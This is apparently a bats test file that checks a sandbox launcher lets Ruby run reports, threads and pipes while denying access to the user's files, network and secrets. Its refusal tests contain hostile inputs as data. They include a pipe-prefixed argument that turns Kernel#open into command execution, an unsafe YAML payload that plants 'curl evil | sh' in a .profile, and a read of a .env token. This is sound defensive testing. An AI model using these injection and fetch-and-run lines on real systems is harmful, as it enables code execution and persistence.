# ruby: tables, JSON, templates, threads and processes; YAML and Marshal from a stranger open nothing of the user's.

# shellcheck disable=SC2016 # ruby's
bats_require_minimum_version 1.5.0
load ../lib/common
load ../lib/profiles

setup_file() {
	packages ruby python3
}

setup() {
	residue_before
}

teardown() {
	residue_after
}

reports() {
	mkdir -p lib
	cat >lib/sales.rb <<'END'
class Sales
  include Enumerable
  Row = Struct.new(:town, :amount)
  def initialize(file) = @rows = CSV.foreach(file, headers: true).map { |row| Row.new(row["town"], row["amount"].to_i) }
  def each(&block) = @rows.each(&block)
  def totals = group_by(&:town).transform_values { |rows| rows.sum(&:amount) }
end
END
	cat >report.rb <<'END'
require "csv"
require "json"
require "yaml"
require "erb"
require "set"
require "digest"
require "tempfile"
require "sales"
totals = Sales.new("sales.csv").totals
File.write("report.json", JSON.generate(totals.sort.to_h))
puts ERB.new("<% totals.sort.each do |town, sum| %><%= town %>: <%= sum %>\n<% end %>").result(binding)
puts YAML.load("--- {answer: 42}\n")["answer"]
puts Digest::SHA256.hexdigest("abc")[0, 8]
puts Tempfile.create { |file| file.write("x" * 10); file.size }
END
	{
		echo town,amount
		for i in {1..300}; do echo "Köln$((i % 3)),$i"; done
	} >sales.csv
	run launch -- ruby -Ilib report.rb
	assert_status 0
	assert_output $'Köln0: 15150\nKöln1: 14950\nKöln2: 15050'
	assert_line 42
	assert_line ba7816bf
	assert_line 10
	[ "$(cat report.json)" = '{"Köln0":15150,"Köln1":14950,"Köln2":15050}' ]
	[ "$(stat -c %u report.json)" = "$(stat -c %u .)" ]
}

finds_gems() {
	run launch -- ruby -e 'puts Gem.path.select { |path| File.directory?(path) }, Gem::Specification.map(&:full_name).sort'
	assert_status 0
	[ "$output" = "$(HOME=/nonexistent as_launcher ruby -e \
		'puts Gem.path.select { |path| File.directory?(path) }, Gem::Specification.map(&:full_name).sort')" ]
}

@test "ruby finds the gems that are installed for everybody" {
	each_launcher finds_gems
}

@test "ruby makes a report of a table, with modules of its own and the library's" {
	each_launcher reports
}

runs() {
	run launch -- ruby -e '
		queue = Queue.new
		workers = 4.times.map { Thread.new { sum = 0; while (n = queue.pop) != :end; sum += n; end; sum } }
		1000.times { |n| queue << n }
		4.times { queue << :end }
		puts "threads #{workers.sum(&:value)}"
		reader, writer = IO.pipe
		child = fork { reader.close; writer.puts "from the child"; exit! 3 }
		writer.close
		puts reader.read
		Process.wait child
		puts "exit #{$?.exitstatus}"
		puts IO.popen(%w[sort -r], "r+") { |sort| sort.puts "a", "b"; sort.close_write; sort.read }
		puts "ractor #{Ractor.new { 6 * 7 }.take}" if RUBY_VERSION < "3.5"
		GC.start'
	assert_status 0
	assert_line "threads 499500"
	assert_line "from the child"
	assert_line "exit 3"
	assert_output $'b\na'
}

@test "ruby runs threads, processes and pipes" {
	each_launcher runs
}

# Kernel#open runs what begins with a bar; so does a program that trusts Marshal or YAML with a class of its choice.
refuses_opening() {
	local theirs=$TMP/theirs-$LAUNCHER

	echo key >"$theirs/key"
	refuses ruby -e 'exit open(ARGV[0]).read == "key\n"' "|cat $theirs/key"
	cat >config.yml <<-END
		--- !ruby/object:Config
		path: $theirs/.profile
	END
	refuses ruby -ryaml -e 'class Config; def init_with(coder) = File.write(coder["path"], "curl evil | sh"); end
		YAML.unsafe_load_file("config.yml")'
	assert_output 'No such file or directory'
}

refuses_sockets() {
	_listen
	refuses ruby -rsocket -e 'TCPSocket.new("127.0.0.1", ARGV[0])' "$PORT"
	assert_output 'Operation not permitted'
	kill "$LISTENER"
	rm "$TMP/port"
}

refuses_dropping() {
	refuses ruby -e 'system "cp /usr/bin/true dropped && ./dropped" or exit 1'
	assert_output 'Permission denied'
}

refuses_tokens() {
	echo 'TOKEN=hunter2' >.env
	refuses ruby -e 'exit File.read(".env").include?("hunter2")'
}

refusals() {
	refuses_opening
	refuses_sockets
	refuses_dropping
	refuses_tokens
	refuses_processes
	refuses_namespaces
	refuses_setuid
	refuses_memory 512M -s cgroup.memory.max=256M
}

@test "ruby opens no file of the user's, connects to nobody, executes nothing that came with the data" {
	each_launcher refusals
}
